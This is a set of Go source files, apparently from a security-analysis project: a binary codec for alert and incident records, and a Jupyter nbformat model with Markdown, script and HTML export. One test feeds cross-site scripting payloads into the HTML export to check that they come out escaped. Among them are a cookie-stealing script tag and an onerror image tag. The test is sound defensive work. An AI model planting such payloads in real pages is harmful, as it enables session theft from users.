// and RiskScore never decrease, Opened is fixed, LastAlert only moves
// later — which is what makes minimum-threshold index pruning sound.
type IncidentRecord struct {
	Actor string
	Class string
	// Gen distinguishes successive incidents of the same (actor,
	// class) pair across quiet-gap close/reopen cycles.
	Gen       int
	Opened    time.Time
	LastAlert time.Time
	Alerts    int
	Severity  rules.Severity
	RiskScore float64
}

// Record is the sum type a frame decodes to: Kind selects which of
// the two bodies is populated.
type Record struct {
	Kind     byte
	Alert    AlertRecord
	Incident IncidentRecord
}

// Band names a risk band over the 0–100 OSCRP score — the coarse
// facet the per-segment index tracks so a --risk query can prune
// segments without decoding them.
type Band string

const (
	BandLow      Band = "low"      // score < 25
	BandModerate Band = "moderate" // 25 ≤ score < 50
	BandElevated Band = "elevated" // 50 ≤ score < 75
	BandCritical Band = "critical" // score ≥ 75
)

// KnownBands lists the bands in ascending rank order, for usage
// messages.
func KnownBands() []Band {
	return []Band{BandLow, BandModerate, BandElevated, BandCritical}
}

// RiskBandOf maps an OSCRP risk score to its band.
func RiskBandOf(score float64) Band {
	switch {
	case score < 25:
		return BandLow
	case score < 50:
		return BandModerate
	case score < 75:
		return BandElevated
	default:
		return BandCritical
	}
}

// BandRank orders bands for minimum-threshold filtering; unknown
// bands rank -1, below every real one.
func BandRank(b Band) int {
	switch b {
	case BandLow:
		return 0
	case BandModerate:
		return 1
	case BandElevated:
		return 2
	case BandCritical:
		return 3
	}
	return -1
}

// ParseBand validates a --risk flag value.
func ParseBand(s string) (Band, bool) {
	switch Band(s) {
	case BandLow, BandModerate, BandElevated, BandCritical:
		return Band(s), true
	}
	return "", false
}

// maxCount bounds decoded count/gen fields; a larger value is
// corruption, not a real incident.
const maxCount = 1 << 31

// AppendRecord appends the encoded payload for r to dst and returns
// the extended slice. The payload is [kind][version][fields]; framing
// (length + CRC) is the segment writer's job. Encoding is a pure
// function of the record value, so any two equal records produce
// identical bytes — the canonical-form property the fuzz round-trip
// target checks.
func AppendRecord(dst []byte, r Record) ([]byte, error) {
	switch r.Kind {
	case KindAlert:
		a := &r.Alert
		dst = append(dst, KindAlert, RecordVersion)
		dst = appendTime(dst, a.Time)
		dst = appendString(dst, a.Actor)
		dst = appendString(dst, a.Class)
		dst = appendString(dst, a.RuleID)
		dst = appendString(dst, string(a.Severity))
		dst = binary.AppendUvarint(dst, uint64(a.Count))
		return dst, nil
	case KindIncident:
		in := &r.Incident
		dst = append(dst, KindIncident, RecordVersion)
		dst = appendString(dst, in.Actor)
		dst = appendString(dst, in.Class)
		dst = binary.AppendUvarint(dst, uint64(in.Gen))
		dst = appendTime(dst, in.Opened)
		dst = appendTime(dst, in.LastAlert)
		dst = binary.AppendUvarint(dst, uint64(in.Alerts))
		dst = appendString(dst, string(in.Severity))
		dst = binary.LittleEndian.AppendUint64(dst, math.Float64bits(in.RiskScore))
		return dst, nil
	}
	return dst, fmt.Errorf("histstore: unknown record kind %d", r.Kind)
}

// DecodeRecord decodes one frame payload. It is strict: an unknown
// kind or version, an implausible count, a non-canonical time, or
// trailing bytes after the last field are all errors — a corrupt
// frame must terminate the valid prefix, never half-decode.
func DecodeRecord(payload []byte) (Record, error) {
	if len(payload) < 2 {
		return Record{}, fmt.Errorf("histstore: record too short")
	}
	kind, version := payload[0], payload[1]
	if version != RecordVersion {
		// v1 is the only version ever written so far; when v2 lands
		// this becomes a switch and v1 stays decodable.
		return Record{}, fmt.Errorf("histstore: unknown record version %d", version)
	}
	rd := recReader{buf: payload, off: 2}
	var r Record
	r.Kind = kind
	switch kind {
	case KindAlert:
		a := &r.Alert
		a.Time = rd.time()
		a.Actor = rd.str()
		a.Class = rd.str()
		a.RuleID = rd.str()
		a.Severity = rules.Severity(rd.str())
		a.Count = rd.count()
	case KindIncident:
		in := &r.Incident
		in.Actor = rd.str()
		in.Class = rd.str()
		in.Gen = rd.count()
		in.Opened = rd.time()
		in.LastAlert = rd.time()
		in.Alerts = rd.count()
		in.Severity = rules.Severity(rd.str())
		in.RiskScore = math.Float64frombits(rd.u64())
	default:
		return Record{}, fmt.Errorf("histstore: unknown record kind %d", kind)
	}
	if rd.err != nil {
		return Record{}, rd.err
	}
	if rd.off != len(payload) {
		return Record{}, fmt.Errorf("histstore: %d trailing bytes after record", len(payload)-rd.off)
	}
	return r, nil
}

func appendString(dst []byte, s string) []byte {
	dst = binary.AppendUvarint(dst, uint64(len(s)))
	return append(dst, s...)
}

// appendTime encodes a time as a presence byte, then (when present)
// zigzag Unix seconds and a sub-second nanosecond count. Only the
// instant survives — locations don't round-trip, and both sides of
// every query comparison go through the same encoding.
func appendTime(dst []byte, t time.Time) []byte {
	if t.IsZero() {
		return append(dst, 0)
	}
	dst = append(dst, 1)
	dst = binary.AppendVarint(dst, t.Unix())
	return binary.AppendUvarint(dst, uint64(t.Nanosecond()))
}

// recReader decodes record fields with a sticky error, so the field
// list reads linearly and any malformed field poisons the rest.
type recReader struct {
	buf []byte
	off int
	err error
}

func (rd *recReader) fail(msg string) {
	if rd.err == nil {
		rd.err = fmt.Errorf("histstore: %s", msg)
	}
}

func (rd *recReader) uvarint() uint64 {
	if rd.err != nil {
		return 0
	}
	v, n := binary.Uvarint(rd.buf[rd.off:])
	if n <= 0 {
		rd.fail("bad uvarint")
		return 0
	}
	rd.off += n
	return v
}

func (rd *recReader) varint() int64 {
	if rd.err != nil {
		return 0
	}
	v, n := binary.Varint(rd.buf[rd.off:])
	if n <= 0 {
		rd.fail("bad varint")
		return 0
	}
	rd.off += n
	return v
}

func (rd *recReader) str() string {
	n := rd.uvarint()
	if rd.err != nil {
		return ""
	}
	if n > uint64(len(rd.buf)-rd.off) {
		rd.fail("string length past end of record")
		return ""
	}
	s := string(rd.buf[rd.off : rd.off+int(n)])
	rd.off += int(n)
	return s
}

func (rd *recReader) count() int {
	v := rd.uvarint()
	if rd.err == nil && v >= maxCount {
		rd.fail("implausible count")
	}
	return int(v)
}

func (rd *recReader) u64() uint64 {
	if rd.err != nil {
		return 0
	}
	if len(rd.buf)-rd.off < 8 {
		rd.fail("short fixed64")
		return 0
	}
	v := binary.LittleEndian.Uint64(rd.buf[rd.off:])
	rd.off += 8
	return v
}

func (rd *recReader) time() time.Time {
	if rd.err != nil {
		return time.Time{}
	}
	if rd.off >= len(rd.buf) {
		rd.fail("missing time presence byte")
		return time.Time{}
	}
	presence := rd.buf[rd.off]
	rd.off++
	switch presence {
	case 0:
		return time.Time{}
	case 1:
		sec := rd.varint()
		nsec := rd.uvarint()
		if rd.err != nil {
			return time.Time{}
		}
		if nsec >= 1e9 {
			rd.fail("nanoseconds out of range")
			return time.Time{}
		}
		t := time.Unix(sec, int64(nsec)).UTC()
		if t.IsZero() {
			// The zero instant encodes as presence 0; a presence-1
			// encoding of it would not round-trip byte-identically.
			rd.fail("non-canonical zero time")
			return time.Time{}
		}
		return t
	}
	rd.fail("bad time presence byte")
	return time.Time{}
}
