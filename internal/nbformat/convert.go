package nbformat

import (
	"fmt"
	"html"
	"strings"
)

// This file implements the format conversions the paper's background
// section describes ("converted to other formats such as Markdown,
// HTML, LaTeX/PDF"): Markdown, standalone HTML, and a plain script
// export. Conversions are also security-relevant — HTML export is an
// XSS vector in real Jupyter (CVE-2021-32798 in the paper's
// references), so the HTML converter here escapes all user content and
// a test asserts script injection cannot survive it.

// ToMarkdown renders the notebook as a Markdown document: markdown
// cells verbatim, code cells fenced, outputs as indented blocks.
func (nb *Notebook) ToMarkdown() string {
	var b strings.Builder
	for i := range nb.Cells {
		c := &nb.Cells[i]
		if i > 0 {
			b.WriteString("\n")
		}
		switch c.CellType {
		case CellMarkdown:
			b.WriteString(strings.TrimRight(string(c.Source), "\n"))
			b.WriteString("\n")
		case CellCode:
			fmt.Fprintf(&b, "```%s\n%s\n```\n", "minilang", strings.TrimRight(string(c.Source), "\n"))
			for _, o := range c.Outputs {
				if text := outputText(&o); text != "" {
					b.WriteString("\n")
					for _, line := range SplitLines(strings.TrimRight(text, "\n") + "\n") {
						b.WriteString("    " + line)
					}
				}
			}
		case CellRaw:
			b.WriteString(strings.TrimRight(string(c.Source), "\n"))
			b.WriteString("\n")
		}
	}
	return b.String()
}

// ToScript renders only the code cells, separated by cell markers —
// the `jupyter nbconvert --to script` equivalent. Useful for source
// scanning: detection rules run over the same text a kernel would see.
func (nb *Notebook) ToScript() string {
	var b strings.Builder
	for i := range nb.Cells {
		c := &nb.Cells[i]
		if c.CellType != CellCode {
			continue
		}
		fmt.Fprintf(&b, "# %%%% cell %s\n%s\n", c.ID, strings.TrimRight(string(c.Source), "\n"))
	}
	return b.String()
}

// ToHTML renders a standalone HTML document. All user-controlled
// content is escaped: a notebook must not be able to inject markup
// into the page that displays it.
func (nb *Notebook) ToHTML(title string) string {
	var b strings.Builder
	b.WriteString("<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n")
	fmt.Fprintf(&b, "<title>%s</title>\n", html.EscapeString(title))
	b.WriteString("<style>body{font-family:sans-serif;max-width:60em;margin:auto}" +
		"pre{background:#f4f4f4;padding:.6em;overflow-x:auto}" +
		".out{border-left:3px solid #888;padding-left:.6em;color:#333}" +
		".err{border-left:3px solid #c00;padding-left:.6em;color:#c00}</style>\n")
	b.WriteString("</head>\n<body>\n")
	for i := range nb.Cells {
		c := &nb.Cells[i]
		switch c.CellType {
		case CellMarkdown:
			// Markdown is rendered as escaped preformatted text: we do
			// not implement a Markdown-to-HTML renderer, and escaping
			// beats injecting.
			fmt.Fprintf(&b, "<div class=\"md\"><pre>%s</pre></div>\n",
				html.EscapeString(string(c.Source)))
		case CellCode:
			fmt.Fprintf(&b, "<div class=\"code\"><pre>%s</pre></div>\n",
				html.EscapeString(string(c.Source)))
			for _, o := range c.Outputs {
				class := "out"
				if o.OutputType == OutputError {
					class = "err"
				}
				if text := outputText(&o); text != "" {
					fmt.Fprintf(&b, "<div class=\"%s\"><pre>%s</pre></div>\n",
						class, html.EscapeString(text))
				}
			}
		}
	}
	b.WriteString("</body>\n</html>\n")
	return b.String()
}

// outputText extracts the displayable text of an output.
func outputText(o *Output) string {
	switch o.OutputType {
	case OutputStream:
		return string(o.Text)
	case OutputError:
		return fmt.Sprintf("%s: %s", o.EName, o.EValue)
	case OutputExecuteResult, OutputDisplayData:
		if raw, ok := o.Data["text/plain"]; ok {
			var m MultilineString
			if err := m.UnmarshalJSON(raw); err == nil {
				return string(m)
			}
		}
	}
	return ""
}
