package nbformat

import (
	"encoding/json"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func TestSplitLines(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"", []string{}},
		{"a", []string{"a"}},
		{"a\n", []string{"a\n"}},
		{"a\nb", []string{"a\n", "b"}},
		{"a\nb\n", []string{"a\n", "b\n"}},
		{"\n\n", []string{"\n", "\n"}},
	}
	for _, c := range cases {
		got := SplitLines(c.in)
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("SplitLines(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSplitLinesJoinRoundTrip(t *testing.T) {
	f := func(s string) bool {
		return strings.Join(SplitLines(s), "") == s
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestMultilineStringJSONRoundTrip(t *testing.T) {
	f := func(s string) bool {
		b, err := json.Marshal(MultilineString(s))
		if err != nil {
			return false
		}
		var out MultilineString
		if err := json.Unmarshal(b, &out); err != nil {
			return false
		}
		return string(out) == s
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestMultilineStringAcceptsPlainString(t *testing.T) {
	var m MultilineString
	if err := json.Unmarshal([]byte(`"print(1)\nprint(2)"`), &m); err != nil {
		t.Fatal(err)
	}
	if string(m) != "print(1)\nprint(2)" {
		t.Fatalf("m = %q", m)
	}
}

func TestMultilineStringAcceptsArray(t *testing.T) {
	var m MultilineString
	if err := json.Unmarshal([]byte(`["line1\n","line2"]`), &m); err != nil {
		t.Fatal(err)
	}
	if string(m) != "line1\nline2" {
		t.Fatalf("m = %q", m)
	}
}

func sample() *Notebook {
	nb := New()
	nb.AppendMarkdown("md-1", "# Title\nIntro text.")
	nb.AppendCode("code-1", "x = 1\nprint(x)")
	nb.AppendCode("code-2", "y = 2")
	return nb
}

func TestNotebookRoundTrip(t *testing.T) {
	nb := sample()
	data, err := nb.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Cells) != 3 {
		t.Fatalf("cells = %d", len(back.Cells))
	}
	if back.SourceHash() != nb.SourceHash() {
		t.Fatal("source hash changed across round trip")
	}
}

func TestParseRejectsBadVersion(t *testing.T) {
	nb := sample()
	nb.NBFormat = 3
	data, _ := json.Marshal(nb)
	if _, err := Parse(data); err == nil {
		t.Fatal("nbformat 3 accepted")
	}
}

func TestValidateDuplicateIDs(t *testing.T) {
	nb := New()
	nb.AppendCode("same", "a = 1")
	nb.AppendCode("same", "b = 2")
	if err := nb.Validate(); err == nil {
		t.Fatal("duplicate cell ids accepted")
	}
}

func TestValidateEmptyID(t *testing.T) {
	nb := New()
	nb.Cells = append(nb.Cells, Cell{CellType: CellCode})
	if err := nb.Validate(); err == nil {
		t.Fatal("empty cell id accepted")
	}
}

func TestValidateOutputsOnMarkdown(t *testing.T) {
	nb := New()
	c := NewMarkdownCell("md", "text")
	c.Outputs = []Output{{OutputType: OutputStream, Name: "stdout", Text: "x"}}
	nb.Cells = append(nb.Cells, c)
	if err := nb.Validate(); err == nil {
		t.Fatal("outputs on markdown cell accepted")
	}
}

func TestValidateBadOutputType(t *testing.T) {
	nb := New()
	c := NewCodeCell("c", "x")
	c.Outputs = []Output{{OutputType: "bogus"}}
	nb.Cells = append(nb.Cells, c)
	if err := nb.Validate(); err == nil {
		t.Fatal("bogus output type accepted")
	}
}

func TestValidateStreamName(t *testing.T) {
	o := Output{OutputType: OutputStream, Name: "stdwhat"}
	if err := o.Validate(); err == nil {
		t.Fatal("bad stream name accepted")
	}
}

func TestValidateExecuteResultNeedsCount(t *testing.T) {
	o := Output{OutputType: OutputExecuteResult}
	if err := o.Validate(); err == nil {
		t.Fatal("execute_result without execution_count accepted")
	}
	n := 3
	o.ExecutionCount = &n
	if err := o.Validate(); err != nil {
		t.Fatal(err)
	}
}

func TestNormalizeAssignsIDs(t *testing.T) {
	nb := New()
	nb.Cells = append(nb.Cells,
		Cell{CellType: CellCode, Source: "a"},
		Cell{CellType: CellCode, Source: "b"},
		Cell{ID: "dup", CellType: CellCode, Source: "c"},
		Cell{ID: "dup", CellType: CellCode, Source: "d"},
	)
	assigned := nb.Normalize()
	if len(assigned) != 3 {
		t.Fatalf("assigned = %v", assigned)
	}
	if err := nb.Validate(); err != nil {
		t.Fatalf("normalized notebook invalid: %v", err)
	}
}

func TestNormalizeIsIdempotent(t *testing.T) {
	nb := sample()
	nb.Normalize()
	first, _ := nb.Marshal()
	nb.Normalize()
	second, _ := nb.Marshal()
	if string(first) != string(second) {
		t.Fatal("normalize not idempotent")
	}
}

func TestClearOutputs(t *testing.T) {
	nb := sample()
	n := 1
	nb.Cells[1].Outputs = []Output{{OutputType: OutputStream, Name: "stdout", Text: "hi"}}
	nb.Cells[1].ExecutionCount = &n
	nb.ClearOutputs()
	if len(nb.Cells[1].Outputs) != 0 || nb.Cells[1].ExecutionCount != nil {
		t.Fatal("outputs not cleared")
	}
}

func TestSourceHashIgnoresOutputs(t *testing.T) {
	nb := sample()
	h1 := nb.SourceHash()
	nb.Cells[1].Outputs = []Output{{OutputType: OutputStream, Name: "stdout", Text: "noise"}}
	if nb.SourceHash() != h1 {
		t.Fatal("hash changed with outputs")
	}
	nb.Cells[1].Source = "changed"
	if nb.SourceHash() == h1 {
		t.Fatal("hash did not change with source")
	}
}

func TestCellByID(t *testing.T) {
	nb := sample()
	if c := nb.CellByID("code-2"); c == nil || c.Source != "y = 2" {
		t.Fatalf("CellByID = %+v", c)
	}
	if nb.CellByID("nope") != nil {
		t.Fatal("found nonexistent cell")
	}
}

func TestCodeCells(t *testing.T) {
	nb := sample()
	if got := len(nb.CodeCells()); got != 2 {
		t.Fatalf("code cells = %d", got)
	}
}

func TestStat(t *testing.T) {
	nb := sample()
	s := nb.Stat()
	if s.Cells != 3 || s.CodeCells != 2 || s.Markdown != 1 {
		t.Fatalf("stats = %+v", s)
	}
	if s.SourceBytes == 0 {
		t.Fatal("zero source bytes")
	}
}

func TestCompare(t *testing.T) {
	oldNB := sample()
	newNB := sample()
	newNB.Cells[1].Source = "x = 99"
	newNB.AppendCode("code-3", "z = 3")
	newNB.Cells = append(newNB.Cells[:0], newNB.Cells[1:]...) // drop md-1
	d := Compare(oldNB, newNB)
	if !reflect.DeepEqual(d.Added, []string{"code-3"}) {
		t.Fatalf("added = %v", d.Added)
	}
	if !reflect.DeepEqual(d.Removed, []string{"md-1"}) {
		t.Fatalf("removed = %v", d.Removed)
	}
	if !reflect.DeepEqual(d.Modified, []string{"code-1"}) {
		t.Fatalf("modified = %v", d.Modified)
	}
}

func TestCompareEmptyDiff(t *testing.T) {
	a, b := sample(), sample()
	if d := Compare(a, b); !d.Empty() {
		t.Fatalf("diff of identical notebooks = %+v", d)
	}
}

// TestParseRealWorldShape exercises a notebook JSON as Jupyter emits
// it, with string-array sources and kernel metadata.
func TestParseRealWorldShape(t *testing.T) {
	raw := `{
	 "cells": [
	  {"id": "intro", "cell_type": "markdown", "metadata": {},
	   "source": ["# Analysis\n", "of results"]},
	  {"id": "c1", "cell_type": "code", "execution_count": 2,
	   "metadata": {"collapsed": false},
	   "outputs": [
	    {"output_type": "stream", "name": "stdout", "text": ["42\n"]},
	    {"output_type": "execute_result", "execution_count": 2,
	     "data": {"text/plain": ["42"]}, "metadata": {}}
	   ],
	   "source": "print(6*7)"}
	 ],
	 "metadata": {"kernelspec": {"name": "python3"}},
	 "nbformat": 4, "nbformat_minor": 5
	}`
	nb, err := Parse([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	if nb.Cells[0].Source != "# Analysis\nof results" {
		t.Fatalf("markdown source = %q", nb.Cells[0].Source)
	}
	if nb.Cells[1].Outputs[0].Text != "42\n" {
		t.Fatalf("stream text = %q", nb.Cells[1].Outputs[0].Text)
	}
	// Round-trip must preserve cell content.
	data, err := nb.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if back.SourceHash() != nb.SourceHash() {
		t.Fatal("round trip changed sources")
	}
}

// TestRandomNotebookRoundTrip is a property test: arbitrary generated
// notebooks survive marshal/parse with hashes intact.
func TestRandomNotebookRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	for trial := 0; trial < 50; trial++ {
		nb := New()
		n := rng.Intn(20)
		for i := 0; i < n; i++ {
			id := string(rune('a'+i)) + "-cell"
			src := randText(rng)
			if rng.Intn(2) == 0 {
				nb.AppendCode(id, src)
			} else {
				nb.AppendMarkdown(id, src)
			}
		}
		data, err := nb.Marshal()
		if err != nil {
			t.Fatalf("trial %d: marshal: %v", trial, err)
		}
		back, err := Parse(data)
		if err != nil {
			t.Fatalf("trial %d: parse: %v", trial, err)
		}
		if back.SourceHash() != nb.SourceHash() {
			t.Fatalf("trial %d: hash mismatch", trial)
		}
	}
}

func randText(rng *rand.Rand) string {
	alphabet := []rune("abc\n \t=()\"'日本λ")
	n := rng.Intn(80)
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteRune(alphabet[rng.Intn(len(alphabet))])
	}
	return b.String()
}
