package nbformat

import (
	"encoding/json"
	"strings"
	"testing"
)

func convertSample() *Notebook {
	nb := New()
	nb.AppendMarkdown("md-1", "# Results\nSummary of run 7.")
	nb.AppendCode("code-1", `x = 6 * 7
print(x)`)
	nb.Cells[1].Outputs = []Output{
		{OutputType: OutputStream, Name: "stdout", Text: "42\n"},
	}
	nb.AppendCode("code-2", `boom()`)
	nb.Cells[2].Outputs = []Output{
		{OutputType: OutputError, EName: "NameError", EValue: "boom is not defined"},
	}
	return nb
}

func TestToMarkdown(t *testing.T) {
	md := convertSample().ToMarkdown()
	for _, want := range []string{
		"# Results", "```minilang", "x = 6 * 7", "    42",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown missing %q:\n%s", want, md)
		}
	}
}

func TestToScriptOnlyCode(t *testing.T) {
	script := convertSample().ToScript()
	if strings.Contains(script, "# Results") {
		t.Fatal("markdown leaked into script")
	}
	for _, want := range []string{"cell code-1", "x = 6 * 7", "cell code-2", "boom()"} {
		if !strings.Contains(script, want) {
			t.Errorf("script missing %q", want)
		}
	}
}

func TestToHTMLStructure(t *testing.T) {
	doc := convertSample().ToHTML("Run 7")
	for _, want := range []string{
		"<!DOCTYPE html>", "<title>Run 7</title>",
		"x = 6 * 7", "NameError: boom is not defined", `class="err"`,
	} {
		if !strings.Contains(doc, want) {
			t.Errorf("html missing %q", want)
		}
	}
}

// TestToHTMLEscapesInjection is the CVE-2021-32798-shaped property:
// hostile notebook content must not become live markup in the export.
func TestToHTMLEscapesInjection(t *testing.T) {
	nb := New()
	nb.AppendMarkdown("evil-md", `<script>steal(document.cookie)</script>`)
	nb.AppendCode("evil-code", `x = "<img src=x onerror=alert(1)>"`)
	nb.Cells[1].Outputs = []Output{{
		OutputType: OutputStream, Name: "stdout",
		Text: MultilineString(`</pre><script>exfil()</script>`),
	}}
	doc := nb.ToHTML(`"><script>title</script>`)
	for _, forbidden := range []string{
		"<script>steal", "<img src=x", "<script>exfil", "<script>title",
	} {
		if strings.Contains(doc, forbidden) {
			t.Errorf("unescaped injection %q survived export", forbidden)
		}
	}
	// The content is still present, escaped.
	if !strings.Contains(doc, "&lt;script&gt;steal") {
		t.Error("escaped content missing entirely")
	}
}

func TestOutputTextExecuteResult(t *testing.T) {
	n := 1
	o := Output{
		OutputType:     OutputExecuteResult,
		ExecutionCount: &n,
		Data:           map[string]json.RawMessage{"text/plain": json.RawMessage(`["42"]`)},
	}
	if got := outputText(&o); got != "42" {
		t.Fatalf("outputText = %q", got)
	}
}

func TestEmptyNotebookConversions(t *testing.T) {
	nb := New()
	if nb.ToMarkdown() != "" || nb.ToScript() != "" {
		t.Fatal("empty notebook produced content")
	}
	if !strings.Contains(nb.ToHTML("t"), "</html>") {
		t.Fatal("empty html malformed")
	}
}
