// Package nbformat implements the Jupyter Notebook document model
// (nbformat v4): notebooks, cells, outputs, and metadata, together
// with JSON (de)serialization, validation, normalization, and content
// hashing.
//
// A notebook is a JSON document; each cell is a JSON object carrying
// source text and, for code cells, a list of outputs. The model here
// follows the public nbformat 4.5 schema closely enough that real
// .ipynb files round-trip, while staying dependency-free.
package nbformat

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strings"
)

// Current nbformat version produced by New.
const (
	FormatMajor = 4
	FormatMinor = 5
)

// Cell types defined by the nbformat schema.
const (
	CellCode     = "code"
	CellMarkdown = "markdown"
	CellRaw      = "raw"
)

// Output types defined by the nbformat schema.
const (
	OutputStream        = "stream"
	OutputDisplayData   = "display_data"
	OutputExecuteResult = "execute_result"
	OutputError         = "error"
)

// Validation errors.
var (
	ErrBadFormat    = errors.New("nbformat: unsupported nbformat version")
	ErrBadCellType  = errors.New("nbformat: unknown cell type")
	ErrEmptyCellID  = errors.New("nbformat: empty cell id")
	ErrDupCellID    = errors.New("nbformat: duplicate cell id")
	ErrBadOutput    = errors.New("nbformat: invalid output")
	ErrOutputOnText = errors.New("nbformat: outputs on non-code cell")
)

// MultilineString is the nbformat convention for source and text
// fields: either a single JSON string or an array of line strings.
// It always marshals as an array of lines (the canonical form) and
// accepts either form when unmarshaling.
type MultilineString string

// MarshalJSON encodes the string as an array of lines, each retaining
// its trailing newline, matching Jupyter's canonical output.
func (m MultilineString) MarshalJSON() ([]byte, error) {
	return json.Marshal(SplitLines(string(m)))
}

// UnmarshalJSON accepts either a plain string or an array of strings.
func (m *MultilineString) UnmarshalJSON(data []byte) error {
	var s string
	if err := json.Unmarshal(data, &s); err == nil {
		*m = MultilineString(s)
		return nil
	}
	var lines []string
	if err := json.Unmarshal(data, &lines); err != nil {
		return fmt.Errorf("nbformat: multiline string: %w", err)
	}
	*m = MultilineString(strings.Join(lines, ""))
	return nil
}

// String returns the joined text.
func (m MultilineString) String() string { return string(m) }

// SplitLines splits s into lines, each keeping its trailing newline.
// An empty string yields an empty slice, matching Jupyter behaviour.
func SplitLines(s string) []string {
	if s == "" {
		return []string{}
	}
	var lines []string
	for {
		i := strings.IndexByte(s, '\n')
		if i < 0 {
			lines = append(lines, s)
			return lines
		}
		lines = append(lines, s[:i+1])
		s = s[i+1:]
		if s == "" {
			return lines
		}
	}
}

// Output is one entry in a code cell's outputs list.
type Output struct {
	OutputType string `json:"output_type"`

	// Stream outputs.
	Name string          `json:"name,omitempty"` // "stdout" | "stderr"
	Text MultilineString `json:"text,omitempty"`

	// display_data / execute_result.
	Data     map[string]json.RawMessage `json:"data,omitempty"`
	Metadata map[string]json.RawMessage `json:"metadata,omitempty"`

	// execute_result only.
	ExecutionCount *int `json:"execution_count,omitempty"`

	// error outputs.
	EName     string   `json:"ename,omitempty"`
	EValue    string   `json:"evalue,omitempty"`
	Traceback []string `json:"traceback,omitempty"`
}

// Validate checks structural invariants for the output.
func (o *Output) Validate() error {
	switch o.OutputType {
	case OutputStream:
		if o.Name != "stdout" && o.Name != "stderr" {
			return fmt.Errorf("%w: stream name %q", ErrBadOutput, o.Name)
		}
	case OutputExecuteResult:
		if o.ExecutionCount == nil {
			return fmt.Errorf("%w: execute_result without execution_count", ErrBadOutput)
		}
	case OutputDisplayData, OutputError:
		// No further structural requirements.
	default:
		return fmt.Errorf("%w: output_type %q", ErrBadOutput, o.OutputType)
	}
	return nil
}

// Cell is one notebook cell.
type Cell struct {
	ID             string                     `json:"id"`
	CellType       string                     `json:"cell_type"`
	Source         MultilineString            `json:"source"`
	Metadata       map[string]json.RawMessage `json:"metadata"`
	Outputs        []Output                   `json:"outputs,omitempty"`
	ExecutionCount *int                       `json:"execution_count,omitempty"`
	Attachments    map[string]json.RawMessage `json:"attachments,omitempty"`
}

// NewCodeCell returns a code cell with the given id and source.
func NewCodeCell(id, source string) Cell {
	return Cell{ID: id, CellType: CellCode, Source: MultilineString(source),
		Metadata: map[string]json.RawMessage{}, Outputs: []Output{}}
}

// NewMarkdownCell returns a markdown cell with the given id and source.
func NewMarkdownCell(id, source string) Cell {
	return Cell{ID: id, CellType: CellMarkdown, Source: MultilineString(source),
		Metadata: map[string]json.RawMessage{}}
}

// Validate checks the cell against schema invariants.
func (c *Cell) Validate() error {
	if c.ID == "" {
		return ErrEmptyCellID
	}
	switch c.CellType {
	case CellCode:
		for i := range c.Outputs {
			if err := c.Outputs[i].Validate(); err != nil {
				return fmt.Errorf("cell %s output %d: %w", c.ID, i, err)
			}
		}
	case CellMarkdown, CellRaw:
		if len(c.Outputs) > 0 {
			return fmt.Errorf("cell %s: %w", c.ID, ErrOutputOnText)
		}
		if c.ExecutionCount != nil {
			return fmt.Errorf("cell %s: execution_count on %s cell", c.ID, c.CellType)
		}
	default:
		return fmt.Errorf("%w: %q", ErrBadCellType, c.CellType)
	}
	return nil
}

// Notebook is a complete notebook document.
type Notebook struct {
	Cells         []Cell                     `json:"cells"`
	Metadata      map[string]json.RawMessage `json:"metadata"`
	NBFormat      int                        `json:"nbformat"`
	NBFormatMinor int                        `json:"nbformat_minor"`
}

// New returns an empty notebook at the current format version.
func New() *Notebook {
	return &Notebook{
		Cells:         []Cell{},
		Metadata:      map[string]json.RawMessage{},
		NBFormat:      FormatMajor,
		NBFormatMinor: FormatMinor,
	}
}

// Parse decodes and validates a notebook from JSON.
func Parse(data []byte) (*Notebook, error) {
	var nb Notebook
	if err := json.Unmarshal(data, &nb); err != nil {
		return nil, fmt.Errorf("nbformat: parse: %w", err)
	}
	if err := nb.Validate(); err != nil {
		return nil, err
	}
	return &nb, nil
}

// Marshal encodes the notebook as canonical indented JSON.
func (nb *Notebook) Marshal() ([]byte, error) {
	return json.MarshalIndent(nb, "", " ")
}

// Validate checks the notebook and all cells against schema invariants.
func (nb *Notebook) Validate() error {
	if nb.NBFormat != FormatMajor {
		return fmt.Errorf("%w: %d.%d", ErrBadFormat, nb.NBFormat, nb.NBFormatMinor)
	}
	seen := make(map[string]bool, len(nb.Cells))
	for i := range nb.Cells {
		c := &nb.Cells[i]
		if err := c.Validate(); err != nil {
			return err
		}
		if seen[c.ID] {
			return fmt.Errorf("%w: %q", ErrDupCellID, c.ID)
		}
		seen[c.ID] = true
	}
	return nil
}

// AppendCode appends a new code cell and returns its id.
func (nb *Notebook) AppendCode(id, source string) {
	nb.Cells = append(nb.Cells, NewCodeCell(id, source))
}

// AppendMarkdown appends a new markdown cell.
func (nb *Notebook) AppendMarkdown(id, source string) {
	nb.Cells = append(nb.Cells, NewMarkdownCell(id, source))
}

// CellByID returns the cell with the given id, or nil.
func (nb *Notebook) CellByID(id string) *Cell {
	for i := range nb.Cells {
		if nb.Cells[i].ID == id {
			return &nb.Cells[i]
		}
	}
	return nil
}

// CodeCells returns pointers to all code cells in order.
func (nb *Notebook) CodeCells() []*Cell {
	var out []*Cell
	for i := range nb.Cells {
		if nb.Cells[i].CellType == CellCode {
			out = append(out, &nb.Cells[i])
		}
	}
	return out
}

// ClearOutputs removes all outputs and execution counts, as "Clear All
// Outputs" does in the Jupyter UI.
func (nb *Notebook) ClearOutputs() {
	for i := range nb.Cells {
		if nb.Cells[i].CellType == CellCode {
			nb.Cells[i].Outputs = []Output{}
			nb.Cells[i].ExecutionCount = nil
		}
	}
}

// SourceHash returns a hex SHA-256 over the ordered cell sources and
